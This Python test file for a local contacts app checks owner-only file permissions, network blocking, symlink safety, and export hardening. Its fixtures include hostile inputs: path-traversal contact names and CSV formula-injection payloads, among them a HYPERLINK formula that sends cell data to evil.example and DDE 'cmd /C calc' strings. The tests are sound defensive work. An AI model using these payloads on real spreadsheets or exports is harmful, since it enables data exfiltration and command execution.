"""Privacy and safety: what informa writes is yours alone, it never touches the network, and
no name a contact can have makes an export write elsewhere or a spreadsheet run a formula.

- Every file informa creates (the database and its -wal/-shm, backups, the automatic backup
  before a schema update, every export) is 0600 and every folder it creates 0700, under a
  permissive umask, and also when an export replaces an existing 0644 file.
- Every CLI command, and the app driven through its screens and palette, runs with the
  network blocked: socket creation (other than AF_UNIX), connect, name lookups. Any attempt is
  recorded, and none may be made.
- A Markdown export of contacts with hostile names writes exactly inside the chosen folder;
  a CSV export of a hostile contact has no cell a spreadsheet would run.
"""

from __future__ import annotations

import asyncio
import csv
import io
import json
import os
import shutil
import socket
import sqlite3
import stat
import subprocess
import sys
import time
import urllib.request
from collections.abc import Callable
from contextlib import closing
from pathlib import Path
from typing import Any

import click
import pytest
from click.testing import CliRunner, Result

from informa.cli import main
from informa.demo import write_demo_database
from informa.domain.clock import fixed_clock
from informa.domain.model import ContactDraft, Source
from informa.store import Store
from tests.builders import NOW
from tests.older_schema import make_older
from tests.reliability.network_guard import (
    LINKEDIN,
    NetworkGuard,
    every_command,
    run_every_command,
)

DEADLINE = 30.0
"""Seconds to wait for any one thing in the app (a slow CI machine included)."""


# -- the network guard ----------------------------------------------------------------------


@pytest.fixture
def no_network(monkeypatch: pytest.MonkeyPatch) -> NetworkGuard:
    guard = NetworkGuard()
    guard.install(monkeypatch.setattr)  # undone by monkeypatch after the test
    return guard


def test_the_guard_records_every_way_out(no_network: NetworkGuard) -> None:
    """The guard itself works: each of these is stopped and recorded."""
    attempts: list[Callable[[], object]] = [
        lambda: socket.socket(),
        lambda: socket.socket(socket.AF_INET6, socket.SOCK_DGRAM),
        lambda: socket.create_connection(("example.com", 443), timeout=1),
        lambda: socket.getaddrinfo("example.com", 443),
        lambda: socket.gethostbyname("example.com"),
        lambda: urllib.request.urlopen("http://example.com/", timeout=1),
    ]
    for attempt in attempts:
        with pytest.raises(OSError, match="network blocked by the test"):  # as if offline
            attempt()
    assert len(no_network.attempts) == len(attempts)
    assert no_network.attempts[0] == "socket(AF_INET)"
    assert no_network.attempts[1] == "socket(AF_INET6)"
    # AF_UNIX (an event loop's self-pipe) is allowed.
    left, right = socket.socketpair()
    left.close()
    right.close()
    loop = asyncio.new_event_loop()
    loop.close()
    assert len(no_network.attempts) == len(attempts)


# -- files and modes ------------------------------------------------------------------------


def mode(path: Path) -> int:
    return stat.S_IMODE(path.lstat().st_mode)


def run(*args: str | Path) -> Result:
    result = CliRunner().invoke(main, [str(arg) for arg in args], catch_exceptions=False)
    assert result.exit_code == 0, f"informa {' '.join(map(str, args))}:\n{result.output}"
    return result


@pytest.fixture(scope="module")
def demo_template(tmp_path_factory: pytest.TempPathFactory) -> Path:
    folder = tmp_path_factory.mktemp("privacy-demo")
    return write_demo_database(folder / "demo.db", clock=fixed_clock(NOW)).path


@pytest.fixture
def demo_db(demo_template: Path, tmp_path: Path) -> Path:
    target = tmp_path / "informa.db"
    shutil.copyfile(demo_template, target)
    return target


def leaf_commands(group: click.Group, prefix: tuple[str, ...] = ()) -> set[tuple[str, ...]]:
    found: set[tuple[str, ...]] = set()
    for name, command in group.commands.items():
        if isinstance(command, click.Group):
            found |= leaf_commands(command, (*prefix, name))
        else:
            found.add((*prefix, name))
    return found


def command_path(args: list[str | Path]) -> tuple[str, ...]:
    words = [str(arg) for arg in args]
    if words[0] == "--db":
        words = words[2:]
    names: list[str] = []
    group: click.Command = main
    for word in words:
        if not isinstance(group, click.Group) or word not in group.commands:
            break
        names.append(word)
        group = group.commands[word]
    return tuple(names)


def test_every_cli_command_is_in_the_list(tmp_path: Path) -> None:
    """So the two tests below cover every command (the app itself is driven separately)."""
    covered = {command_path(args) for args in every_command(tmp_path)}
    assert leaf_commands(main) <= covered


def test_everything_informa_creates_is_owner_only(
    loose_umask: None, tmp_path: Path, isolated_dirs: dict[str, Path]
) -> None:
    sandbox = tmp_path / "sandbox"
    sandbox.mkdir()
    for args in every_command(sandbox):
        run(*args)
    assert (isolated_dirs["data_dir"] / "informa.db").is_file()  # made by the first import
    assert len(list((isolated_dirs["data_dir"] / "backups").glob("*.db"))) == 2

    files, folders = 0, 0
    for root in (sandbox, isolated_dirs["data"], isolated_dirs["config"]):
        if not root.exists():
            continue
        for path in [root, *root.rglob("*")]:
            assert not path.is_symlink(), path
            if path == sandbox:  # made by the test
                continue
            if path.is_dir():
                assert mode(path) == 0o700, f"{path}: {oct(mode(path))}"
                folders += 1
            else:
                assert mode(path) == 0o600, f"{path}: {oct(mode(path))}"
                files += 1
    assert not list(sandbox.rglob(".*.tmp"))
    assert files >= 40, files
    assert folders >= 6, folders


EXPORTS = ["csv", "vcard", "ics", "json"]


@pytest.mark.parametrize("kind", EXPORTS)
def test_an_export_over_an_existing_readable_file_is_owner_only(
    loose_umask: None, demo_db: Path, tmp_path: Path, kind: str
) -> None:
    target = tmp_path / f"existing.{kind}"
    target.write_text("an older export\n")
    target.chmod(0o644)
    run("--db", demo_db, "export", kind, "-o", target)
    assert mode(target) == 0o600
    assert target.read_text(encoding="utf-8-sig") != "an older export\n"
    assert sorted(p.name for p in tmp_path.iterdir() if p.name.startswith(".")) == []


def test_a_markdown_export_over_its_own_readable_files_is_owner_only(
    loose_umask: None, demo_db: Path, tmp_path: Path
) -> None:
    folder = tmp_path / "vault"
    run("--db", demo_db, "export", "markdown", "-o", folder)
    written = sorted(p for p in folder.rglob("*") if p.is_file())
    for path in written:
        path.chmod(0o644)
    run("--db", demo_db, "export", "markdown", "-o", folder)
    assert sorted(p for p in folder.rglob("*") if p.is_file()) == written
    assert {mode(path) for path in written} == {0o600}
    assert {mode(path) for path in folder.rglob("*") if path.is_dir()} == {0o700}


def test_a_link_planted_at_the_temporary_name_cannot_redirect_an_export(
    demo_db: Path, tmp_path: Path
) -> None:
    """An export writes a temporary file beside the target, then renames it. Another user
    who can write to that folder (a shared /tmp) must not be able to plant a link there that
    makes the export overwrite one of your files."""
    victim = tmp_path / "victim.txt"
    victim.write_text("precious\n")
    victim.chmod(0o644)
    out = tmp_path / "shared"
    out.mkdir()
    for name in (f".contacts.csv.{os.getpid()}.tmp", ".contacts.csv.tmp"):
        (out / name).symlink_to(victim)
    run("--db", demo_db, "export", "csv", "-o", out / "contacts.csv")
    assert victim.read_text() == "precious\n"
    assert mode(victim) == 0o644
    assert not (out / "contacts.csv").is_symlink()
    assert mode(out / "contacts.csv") == 0o600


def test_the_backup_before_a_schema_update_is_owner_only(loose_umask: None, demo_db: Path) -> None:
    make_older(demo_db)
    demo_db.chmod(0o644)  # even when the database itself is readable by others
    store = Store.open(demo_db, clock=fixed_clock(NOW))
    store.close()
    backup = store.report.backup
    assert backup is not None
    assert backup.name.endswith(".bak")
    assert mode(backup) == 0o600
    with closing(sqlite3.connect(f"file:{backup}?mode=ro", uri=True)) as connection:
        assert connection.execute("PRAGMA integrity_check").fetchone() == ("ok",)
    assert sorted(p.name for p in demo_db.parent.iterdir()) == sorted([demo_db.name, backup.name])


def test_a_new_database_and_its_journal_files_are_owner_only(
    loose_umask: None, tmp_path: Path
) -> None:
    path = tmp_path / "deep" / "er" / "informa.db"
    store = Store.open(path, clock=fixed_clock(NOW), create_folder=True)
    try:
        store.contacts.create(ContactDraft(name="Ada Lovelace"))
        journal = [path.with_name(f"{path.name}-wal"), path.with_name(f"{path.name}-shm")]
        assert all(p.exists() for p in journal)
        assert {mode(p) for p in [path, *journal]} == {0o600}
    finally:
        store.close()
    assert mode(path.parent) == mode(path.parent.parent) == 0o700


# -- no network -----------------------------------------------------------------------------


def test_every_cli_command_runs_without_the_network(
    no_network: NetworkGuard, tmp_path: Path
) -> None:
    sandbox = tmp_path / "sandbox"
    sandbox.mkdir()
    assert run_every_command(sandbox) == []
    assert no_network.attempts == []


def test_a_fresh_informa_imports_and_runs_everything_without_the_network(
    tmp_path: Path,
) -> None:
    """In a new interpreter, the guard in place before anything is imported: what libraries
    do when first imported is covered too."""
    sandbox = tmp_path / "sandbox"
    sandbox.mkdir()
    root = Path(__file__).resolve().parents[2]
    process = subprocess.run(
        [sys.executable, "-m", "tests.reliability.network_guard", str(sandbox)],
        cwd=root,
        env={**os.environ, "PYTHONPATH": str(root)},
        capture_output=True,
        text=True,
        timeout=120,
        check=False,
    )
    assert process.returncode == 0, process.stderr
    report = json.loads(process.stdout)
    assert report["failed"] == []
    assert report["attempts"] == []
    assert report["modules"] > 50


async def until(pilot: Any, what: str, check: Callable[[], object]) -> None:
    """Let the app run until ``check()`` holds (no fixed sleep); fail after DEADLINE."""
    end = time.monotonic() + DEADLINE
    while not check():
        assert time.monotonic() < end, f"timed out waiting for {what}"
        await pilot.pause()


async def _journey(app: Any, exports: Path) -> None:
    """Pipeline, prepare, review, search and a debrief; an import, two exports (a file, a
    folder) and a backup from the command palette. (The other exports share their code
    with the CLI's, which the tests above run.)"""
    from textual.command import CommandInput, CommandList, CommandPalette
    from textual.widgets import Input

    from informa.ui.screens.debrief import DebriefScreen
    from informa.ui.screens.pipeline import PipelineScreen
    from informa.ui.screens.prepare import PrepareScreen
    from informa.ui.screens.review import ReviewScreen
    from informa.ui.screens.search import SearchScreen
    from informa.ui.screens.transfer import TransferScreen
    from informa.ui.widgets.contact_list import ContactList
    from tests.ui.helpers import quiet, settle, showing, typed

    async with app.run_test(size=(140, 40)) as pilot:

        def offered(title: str) -> bool:
            commands = app.screen.query_one(CommandList)
            index = commands.highlighted
            return index is not None and title in str(commands.get_option_at_index(index).prompt)

        async def choose(title: str) -> None:
            """Run ``title`` from the command palette (the text set at once, not typed)."""
            await settle(pilot)
            await pilot.press("ctrl+p")
            await until(pilot, "the palette", lambda: isinstance(app.screen, CommandPalette))
            app.screen.query_one(CommandInput).value = title
            await until(pilot, f"{title!r} offered", lambda: offered(title))
            await pilot.press("enter")
            await settle(pilot)

        await settle(pilot)
        showing(app, PipelineScreen)
        await pilot.press("a", "down", "down")  # everyone; move about
        await settle(pilot)

        await choose("Grace Liu")  # a contact, found from the palette
        assert app.screen.query_one(ContactList).highlighted.name == "Grace Liu"
        await pilot.press("p")
        await settle(pilot)
        showing(app, PrepareScreen)
        await pilot.press("escape")
        await quiet(pilot)

        await pilot.press("v")
        await quiet(pilot)
        showing(app, ReviewScreen)
        await pilot.press("2", "escape")  # the progress tab, then back
        await quiet(pilot)

        await pilot.press("ctrl+f")
        await until(pilot, "the search", lambda: isinstance(app.screen, SearchScreen))
        await pilot.press(*typed("Kohavi"))
        await settle(pilot)
        await pilot.press("enter", "enter")
        await quiet(pilot)
        showing(app, DebriefScreen)
        await pilot.press("escape")
        await quiet(pilot)
        showing(app, PipelineScreen)

        async def palette(title: str, path: Path, *, confirm: bool = False) -> None:
            await choose(title)
            await until(pilot, title, lambda: isinstance(app.screen, TransferScreen))
            app.screen.query_one("#path", Input).value = str(path)
            await pilot.press("enter")
            await settle(pilot)
            if confirm:  # an import is checked first, then confirmed
                await pilot.press("enter")
                await settle(pilot)
                await pilot.press("escape")
                await settle(pilot)
            showing(app, PipelineScreen)

        await palette("Import LinkedIn connections", LINKEDIN, confirm=True)
        await palette("Export contacts as CSV", exports / "contacts.csv")
        await palette("Export notes as Markdown", exports / "notes")
        await palette("Back up the database", exports / "backup.db")


@pytest.mark.slow  # a whole journey through the app, with imports and exports
def test_the_app_runs_without_the_network(
    no_network: NetworkGuard, loose_umask: None, demo_db: Path, tmp_path: Path
) -> None:
    """The event loop itself is made under the guard (``asyncio.run`` here), so what it
    needs is allowed and anything else is recorded."""
    from informa.factory import make_app

    exports = tmp_path / "exports"
    exports.mkdir()
    app = make_app(db_path=demo_db, config_dir=tmp_path / "config", clock=fixed_clock(NOW))
    contacts = app.store.contacts.count()
    asyncio.run(_journey(app, exports))
    assert no_network.attempts == []
    assert no_network.unix_sockets >= 2  # the loop's self-pipe: the guard was in place

    # The import happened and every export was written, owner-only.
    with closing(sqlite3.connect(demo_db)) as connection:
        assert connection.execute("SELECT count(*) FROM contact").fetchone()[0] > contacts
    assert {p.name for p in exports.iterdir()} == {"contacts.csv", "notes", "backup.db"}
    for path in exports.rglob("*"):
        assert mode(path) == (0o700 if path.is_dir() else 0o600), path


# -- hostile names --------------------------------------------------------------------------

HOSTILE_NAMES = [
    "../../../outside",
    "..",
    ".",
    "../..",
    "/etc/passwd",
    "/tmp/x/../../escape",
    "notes/../../../../escape",
    "a/b/c/d",
    "..\\..\\windows\\escape",
    "C:\\Windows\\win.ini",
    "~/home-escape",
    "$HOME/escape",
    ".hidden",
    "-rf",
    "con",
    "NUL.txt",
    "name\twith\ttabs",
    "\u202eevil\u202c.md.exe",
    ("Zoë 🙂 " * 40)[:200],
    "/" * 30 + "x",
    "." * 200,
]


def test_a_markdown_export_writes_only_inside_its_folder(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    root = tmp_path / "root"
    (root / "data").mkdir(parents=True)
    path = root / "data" / "informa.db"
    store = Store.open(path, clock=fixed_clock(NOW))
    try:
        for name in HOSTILE_NAMES:
            contact = store.contacts.create(ContactDraft(name=name, notes=f"about {name}"))
            store.interviews.prepare(contact.id)  # an interview file is named after them too
        contacts, interviews = store.contacts.count(), len(store.exports.snapshot().interviews)
    finally:
        store.close()
    assert contacts == len(HOSTILE_NAMES)
    assert interviews == len(HOSTILE_NAMES)
    folder = root / "export" / "notes"
    folder.parent.mkdir()
    monkeypatch.chdir(folder.parent)  # where relative names would land: nothing may
    before = set(tmp_path.rglob("*"))
    result = run("--db", path, "export", "markdown", "-o", folder)
    assert result.stdout == f"Wrote {contacts + interviews + 1} files to {folder}\n"

    created = set(tmp_path.rglob("*")) - before
    outside = sorted(
        p
        for p in created
        if p != folder and folder not in p.parents and not p.name.startswith("informa.db-")
    )
    assert outside == []
    files = sorted(p for p in created if p.is_file() and folder in p.parents)
    assert len(files) == contacts + interviews + 1
    assert {p.parent for p in files} == {folder, folder / "contacts", folder / "interviews"}
    for file in files:
        assert file.resolve().parent in {folder, folder / "contacts", folder / "interviews"}
        assert not file.name.startswith(".")
        assert len(file.name.encode()) <= 120
        assert file.read_text(encoding="utf-8").startswith("---\nexported_by: informa\n")
    assert not list(Path("/").glob("escape*"))
    assert not (Path.home() / "home-escape.md").exists()


HOSTILE = {
    "name": '=HYPERLINK("http://evil.example/?"&A1,"Click me")',
    "role": "+cmd|' /C calc'!A0",
    "company": "-2+3+cmd|' /C calc'!A0",
    "location": "@SUM(1+1)*cmd|' /C calc'!A0",
    "notes": "\t=1+1\n=2+2",
}


def test_a_csv_export_neutralises_formulas_end_to_end(tmp_path: Path) -> None:
    path = tmp_path / "informa.db"
    store = Store.open(path, clock=fixed_clock(NOW))
    try:
        store.contacts.create(
            ContactDraft(
                name=HOSTILE["name"],
                role=HOSTILE["role"],
                company=HOSTILE["company"],
                location=HOSTILE["location"],
                notes=HOSTILE["notes"],
                tags=("=tag", "-tag"),
                source=Source.OTHER,
            )
        )
    finally:
        store.close()
    target = tmp_path / "contacts.csv"
    run("--db", path, "export", "csv", "-o", target)
    rows = list(csv.DictReader(io.StringIO(target.read_text(encoding="utf-8-sig"))))
    assert len(rows) == 1
    (row,) = rows
    for cell in row.values():
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
    for column, value in HOSTILE.items():
        assert row[column] == f"'{value}", column

    # Read back, the values are exactly what was typed (the guard quote comes off).
    fresh = tmp_path / "fresh.db"
    run("--db", fresh, "import", "csv", target)
    store = Store.open(fresh, clock=fixed_clock(NOW))
    try:
        (contact,) = store.exports.snapshot().contacts
    finally:
        store.close()
    assert contact.name == HOSTILE["name"]
    assert contact.role == HOSTILE["role"]
    assert contact.company_name == HOSTILE["company"]
    assert contact.location == HOSTILE["location"]
